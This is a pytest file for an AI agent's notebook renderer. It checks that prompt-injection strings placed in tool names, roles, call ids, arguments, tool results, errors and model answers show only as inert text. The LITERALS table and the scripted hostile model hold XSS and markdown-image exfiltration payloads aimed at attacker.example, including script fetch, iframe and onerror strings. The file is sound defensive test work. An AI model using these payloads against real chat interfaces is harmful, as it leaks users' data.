"""Prompt injection through every string a rendering of a conversation shows, not only message text: tool names
the model makes up, roles and call ids read from a saved file, arguments, tool results, error text, and the
answer shown after the approval buttons. Each test performs the attack through real components (markdown-it, a
scripted model driving the real loop, `Conversation.load` of a file, a real kernel clicking real widgets) and
reads what a frontend would build: no image may make a request, and no raw HTML element may survive."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from functionary_agent import Conversation
from functionary_agent.errors import ConfigurationError, ModelError
from functionary_agent.notebook import LiveDisplay, render_html, render_markdown
from functionary_agent.testing import ScriptedModel, call

ROOT = Path(__file__).resolve().parents[1]
REL = "noopener noreferrer"
ATTACKER = "attacker.example"
# The strings of the defect reports, exactly.
TOOL_NAME = "x` ![p](https://attacker.example/p.png) `y"
ROLE = "![p](https://attacker.example/r.png)"
ANSWER_IMAGE = "![x](https://attacker.example/?q=SECRET)"
RAW_IMAGE = '<img src="https://attacker.example/raw.png">'

LITERALS = {  # strings that must show as text wherever they are put
    "defect tool name": TOOL_NAME,
    "defect role": ROLE,
    "defect answer image": ANSWER_IMAGE,
    "raw img": RAW_IMAGE,
    "blank line ends the code span": "a\n\n![p](https://attacker.example/nl.png)\n\n`b",
    "carriage returns end the code span": "a\r\r![p](https://attacker.example/cr.png)\r\r`b",
    "backtick runs": "```` ![p](https://attacker.example/ticks.png) `` `",
    "script": "<script>fetch('https://attacker.example/s')</script>",
    "iframe": '<iframe src="https://attacker.example/f"></iframe>',
    "attribute break": '"><img src=https://attacker.example/q.png onerror=alert(1)>',
    "reference image": "![p][r]\n\n[r]: https://attacker.example/ref.png",
    "autolink": "<https://attacker.example/auto>",
    "link": "[click](https://attacker.example/l)",
    "heading then image": "#\n![p](https://attacker.example/h.png)",
}
_OUR_TAGS = {"div", "details", "summary", "code", "span", "pre", "p", "strong", "em", "ul", "li", "b"}


# -- what a frontend builds ---------------------------------------------------------------------------------
class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _elements(markup: str) -> _Elements:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser


def _scheme(url: str) -> str:
    head = url.strip().split("/", 1)[0]
    return head.split(":", 1)[0].lower() if ":" in head else ""


def _assert_html_fetches_nothing(markup: str, *, links: bool) -> _Elements:
    """No element makes a request or runs script: images only from raster `data:` URIs, no raw `<img`,
    `<script`, `<iframe` in the markup, no handler; and (`links`: model text) links only with `rel` and a web or
    mail target, or (not `links`: names, roles, results) no link and no attacker address in any attribute."""
    found = _elements(markup)
    for tag, attrs in found.elements:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        if tag == "img":
            assert attrs.get("src", "").startswith("data:image/png"), attrs
        elif tag == "a" and links:
            assert attrs.get("rel") == REL and _scheme(attrs.get("href", "")) in ("http", "https", "mailto", "")
        else:
            assert tag in _OUR_TAGS, tag
            assert not [value for value in attrs.values() if ATTACKER in value], (tag, attrs)
    for raw in re.finditer(r"<\s*(img|script|iframe)\b[^>]*", markup, re.IGNORECASE):
        assert raw.group(1).lower() == "img" and 'src="data:image/png' in raw.group(0), raw.group(0)
    return found


def _viewer_reads(markdown: str) -> list[Any]:
    """The tokens a Markdown viewer (raw HTML on, deep nesting followed, GFM tables) builds."""
    tokens = MarkdownIt("commonmark", {"maxNesting": 200}).enable(["table", "strikethrough"]).parse(markdown)
    return [*tokens, *(child for token in tokens for child in token.children or [])]


def _assert_markdown_fetches_nothing(markdown: str) -> list[Any]:
    tokens = _viewer_reads(markdown)
    assert not [t.type for t in tokens if t.type in ("image", "html_inline", "html_block")], markdown
    assert not [t for t in tokens if t.type == "link_open" and ATTACKER in str(t.attrGet("href"))], markdown
    return tokens


def _flattened(text: str) -> str:
    return re.sub(r"\r\n|\r|\n", " ", text)


# -- messages built directly: each hostile string in each place a rendering shows ----------------------------
PLACES = {
    "role": lambda hostile: [{"role": hostile, "content": "hello"}],
    "tool name": lambda hostile: [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c1", "type": "function", "function": {"name": hostile, "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "name": hostile, "content": "ok"}],
    "call id and arguments": lambda hostile: [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": hostile, "type": "function", "function": {"name": "f", "arguments": hostile}}]},
        {"role": "tool", "tool_call_id": hostile, "name": "f", "content": "ok"}],
    "result": lambda hostile: [
        {"role": "assistant", "content": None,
         "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "name": "f", "content": f"Error: {hostile}"}],
    "name of a result without its call": lambda hostile: [
        {"role": "tool", "tool_call_id": "orphan", "name": hostile, "content": hostile}],
    "type of a content part": lambda hostile: [
        {"role": "user", "content": [{"type": hostile, "url": "https://attacker.example/part.png"}]}],
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("hostile", LITERALS.values(), ids=LITERALS.keys())
def test_names_roles_ids_arguments_and_results_render_as_text(hostile: str, place: str) -> None:
    messages = PLACES[place](hostile)
    markdown = render_markdown(messages)
    tokens = _assert_markdown_fetches_nothing(markdown)
    assert not [t for t in tokens if t.type == "link_open"], markdown
    page = render_html(messages)
    shown = "".join(_assert_html_fetches_nothing(page, links=False).text)
    chat = Conversation(ScriptedModel([]))
    chat.messages = messages
    assert (chat._repr_markdown_(), chat._repr_html_()) == (markdown, page)
    if place != "type of a content part":  # shown as it is, as text a reader sees
        code = [t.content for t in tokens if t.type in ("code_inline", "fence")]
        forms = (hostile.replace("\r", "\n"), _flattened(hostile), " ".join(hostile.split()))  # fenced, inline
        assert [text for text in code for form in forms if form in text]
        assert hostile.replace("\r", "\n")[:40] in shown.replace("\r", "\n")


def test_an_unknown_role_gets_no_class_of_its_choosing() -> None:
    page = render_html([{"role": "tool fa-error", "content": "x"}, {"role": "user", "content": "y"}])
    classes = [attrs.get("class") for _, attrs in _elements(page).elements if "class" in attrs]
    assert classes == ["fa-conversation", "fa-other-role", "fa-user"]


# -- a saved file, and messages no file may hold --------------------------------------------------------------
def _saved(tmp_path: Path, messages: list[dict[str, Any]]) -> Path:
    path = tmp_path / "chat.json"
    path.write_text(json.dumps({"format": "functionary-agent/conversation", "version": 1, "messages": messages}))
    return path


def test_a_loaded_file_with_hostile_names_ids_and_results_renders_as_text(tmp_path: Path) -> None:
    messages = [
        {"role": "user", "content": [{"type": "text", "text": "hi"}, {"type": f"x {RAW_IMAGE}"}]},
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": TOOL_NAME, "type": "function",
             "function": {"name": TOOL_NAME, "arguments": json.dumps({"q": RAW_IMAGE})}},
            {"id": ROLE, "type": "function", "function": {"name": ROLE, "arguments": ROLE}}]},
        {"role": "tool", "tool_call_id": TOOL_NAME, "name": TOOL_NAME, "content": f"Error: {ANSWER_IMAGE}"},
        {"role": "tool", "tool_call_id": "elsewhere", "name": ROLE, "content": [{"type": "text", "text": RAW_IMAGE}]},
    ]
    chat = Conversation.load(_saved(tmp_path, messages), ScriptedModel([]))
    markdown = chat._repr_markdown_()
    tokens = _assert_markdown_fetches_nothing(markdown)
    assert not [t for t in tokens if t.type == "link_open"]
    arguments = json.dumps({"q": RAW_IMAGE})
    assert [t.content for t in tokens if t.type == "code_inline"] == [TOOL_NAME, arguments, ROLE, ROLE, ROLE, "{}"]
    assert "[ximgsrchttpsattackerexamplerawpng]" in markdown  # the part's type, reduced to a harmless word
    assert [t.content for t in tokens if t.type == "fence"] == [f"Error: {ANSWER_IMAGE}\n", f"{RAW_IMAGE}\n"]
    _assert_html_fetches_nothing(chat._repr_html_(), links=False)


def test_a_role_read_from_a_saved_file_is_refused_or_shown_as_text(tmp_path: Path) -> None:
    path = _saved(tmp_path, [{"role": ROLE, "content": "hello"}, {"role": RAW_IMAGE, "content": "again"}])
    try:
        chat = Conversation.load(path, ScriptedModel([]))
    except ConfigurationError:
        return  # refusing the file is a defence as well
    tokens = _assert_markdown_fetches_nothing(chat._repr_markdown_())
    assert [t.content for t in tokens if t.type == "code_inline"] == [ROLE, RAW_IMAGE]
    page = chat._repr_html_()
    _assert_html_fetches_nothing(page, links=False)
    assert [text for text in _elements(page).text if text.strip()] == [ROLE, "hello", RAW_IMAGE, "again"]


def test_malformed_calls_and_ids_render_without_a_stack_trace() -> None:
    """Messages set by hand can hold what no saved file may: ids that are not strings, calls that are not
    objects. They render (the odd parts left out or unpaired) rather than raise out of `_repr_html_`."""
    messages = [
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": [ROLE], "type": "function", "function": {"name": ROLE, "arguments": {"q": RAW_IMAGE}}},
            "not a call", {"id": "c3", "function": ROLE}]},
        {"role": "tool", "tool_call_id": {"a": 1}, "name": TOOL_NAME, "content": RAW_IMAGE},
    ]
    tokens = _assert_markdown_fetches_nothing(render_markdown(messages))
    assert [t.content for t in tokens if t.type == "code_inline"] == [ROLE, json.dumps({"q": RAW_IMAGE}), TOOL_NAME,
                                                                     "{}"]
    _assert_html_fetches_nothing(render_html(messages), links=False)


# -- a scripted model that makes up a tool name and answers with images --------------------------------------
HOSTILE_ANSWER = f"Done. {ANSWER_IMAGE}\n\n{RAW_IMAGE}\n\n<script>alert(1)</script>"


def _hostile_run() -> Conversation:
    def lookup(city: str) -> str:
        return f"{city}: sunny {RAW_IMAGE}"

    model = ScriptedModel([
        {"tool_calls": [call(TOOL_NAME, {"q": ANSWER_IMAGE}, id=ROLE), call("lookup", {"city": RAW_IMAGE})]},
        HOSTILE_ANSWER,
    ])
    chat = Conversation(model, tools=[lookup])
    return chat


def test_a_made_up_tool_name_and_an_image_answer_from_the_model_render_inert() -> None:
    chat = _hostile_run()
    screen: list[dict[str, str]] = []
    live = LiveDisplay(show=lambda bundle: screen.append(bundle) or screen.append, min_interval=0.0)
    for event in chat.stream("Weather?"):
        live.handle(event)
    assert live.answer == HOSTILE_ANSWER
    assert any("unknown tool" in str(m.get("content")) for m in chat.messages)  # the made-up name was run
    for bundle in screen:
        _assert_html_fetches_nothing(bundle["text/html"], links="fa-text" in bundle["text/html"])
        if "text/markdown" in bundle:
            _assert_markdown_fetches_nothing(bundle["text/markdown"])
    tokens = _assert_markdown_fetches_nothing(chat._repr_markdown_())
    assert TOOL_NAME in [t.content for t in tokens if t.type == "code_inline"]
    page = chat._repr_html_()
    found = _assert_html_fetches_nothing(page, links=True)
    assert [a["href"] for tag, a in found.elements if tag == "a"] == ["https://attacker.example/?q=SECRET"]


def test_a_failed_run_quoting_the_model_shows_text() -> None:
    screen: list[dict[str, str]] = []
    live = LiveDisplay(show=lambda bundle: screen.append(bundle) or screen.append, min_interval=0.0)
    live.fail(ModelError(f"the server said: {ANSWER_IMAGE} {RAW_IMAGE}"))
    (box,) = screen
    assert "text/markdown" not in box  # nothing that a viewer would render as Markdown
    _assert_html_fetches_nothing(box["text/html"], links=False)
    assert box["text/plain"] == f"✗ ModelError: the server said: {ANSWER_IMAGE} {RAW_IMAGE}"


# -- the approval buttons, clicked on a real kernel -----------------------------------------------------------
_APPROVAL_SETUP = f"""
import json
from functionary_agent import ApprovalRequired, Conversation, ModelError
from functionary_agent.notebook.approvals import approval_panel
from functionary_agent.testing import ScriptedModel, call
TOOL_NAME, ANSWER_IMAGE, RAW_IMAGE = {TOOL_NAME!r}, {ANSWER_IMAGE!r}, {RAW_IMAGE!r}
def delete_file(path: str) -> str:
    return "deleted " + path
def replies(answer):
    turns = [{{"tool_calls": [call("delete_file", {{"path": RAW_IMAGE}}, id=ANSWER_IMAGE)]}},
             {{"tool_calls": [call(TOOL_NAME, {{"q": ANSWER_IMAGE}})]}}]
    def reply(request):
        turn = sum(message["role"] == "assistant" for message in request.messages)
        if turn < len(turns):
            return turns[turn]
        if answer is None:
            raise ModelError(f"the server said: {{ANSWER_IMAGE}} {{RAW_IMAGE}}")
        return answer
    return reply
def paused_chat(answer):
    chat = Conversation(ScriptedModel(replies(answer)))
    chat.register(delete_file, approve=True)
    try:
        chat.submit("Delete it", display=True)
    except ApprovalRequired:
        return chat
def outputs(panel):
    return json.dumps([output.get("data", output) for output in panel.children[-1].outputs])
"""


def _approval_cells() -> list[str]:
    answer = f"Done. {ANSWER_IMAGE}\n\n{RAW_IMAGE}\n\n<iframe src='https://attacker.example/f'></iframe>"
    return [
        _APPROVAL_SETUP,
        f"ran = paused_chat({answer!r})\nran_panel = approval_panel(ran, ran.pending_approvals)\n"
        "ran_panel.children[0].children[1].click()  # Run",
        "declined = paused_chat(None)\ndeclined_panel = approval_panel(declined, declined.pending_approvals)\n"
        "declined_panel.children[0].children[2].click()  # Decline: the model then fails, quoting itself",
        "print(outputs(ran_panel))",
        "print(outputs(declined_panel))",
        "ran",
    ]


def _kernel_run(cells: list[str]) -> Any:
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    pytest.importorskip("ipywidgets")
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source) for source in cells])
    nbclient.NotebookClient(notebook, timeout=180, kernel_name="python3",
                            resources={"metadata": {"path": str(ROOT)}}).execute()
    return notebook


def _printed(cell: Any) -> Any:
    return json.loads("".join(out["text"] for out in cell.outputs if out["output_type"] == "stream"))


def _assert_bundle_fetches_nothing(data: dict[str, Any], *, links: bool) -> None:
    if "text/markdown" in data:
        _assert_markdown_fetches_nothing(data["text/markdown"])
    if "text/html" in data:
        _assert_html_fetches_nothing(data["text/html"], links=links)


def test_the_answer_and_the_error_after_the_approval_buttons_fetch_nothing() -> None:
    notebook = _kernel_run(_approval_cells())
    setup, ran, declined, ran_outputs, declined_outputs, shown = notebook.cells
    for cell in (setup, ran, declined):
        assert not [out for out in cell.outputs if out["output_type"] in ("error", "stream")], cell.outputs
        for out in cell.outputs:  # what the paused runs showed live, the waiting box included
            _assert_bundle_fetches_nothing(out.get("data", {}), links=True)
    (answer,) = _printed(ran_outputs)
    _assert_bundle_fetches_nothing(answer, links=True)
    assert answer["text/plain"].startswith(f"Done. {ANSWER_IMAGE}")
    found = _elements(answer["text/html"])
    assert [attrs for tag, attrs in found.elements if tag == "a"] == [
        {"href": "https://attacker.example/?q=SECRET", "rel": REL}]  # a link to click, never fetched
    (error,) = _printed(declined_outputs)
    _assert_bundle_fetches_nothing(error, links=False)
    assert error["text/plain"] == f"✗ ModelError: the server said: {ANSWER_IMAGE} {RAW_IMAGE}"
    assert set(error) == {"text/html", "text/plain"}  # nothing a viewer renders as Markdown
    (chat,) = [out["data"] for out in shown.outputs if out["output_type"] == "execute_result"]
    _assert_bundle_fetches_nothing(chat, links=True)
    tokens = _viewer_reads(chat["text/markdown"])
    assert TOOL_NAME in [t.content for t in tokens if t.type == "code_inline"]
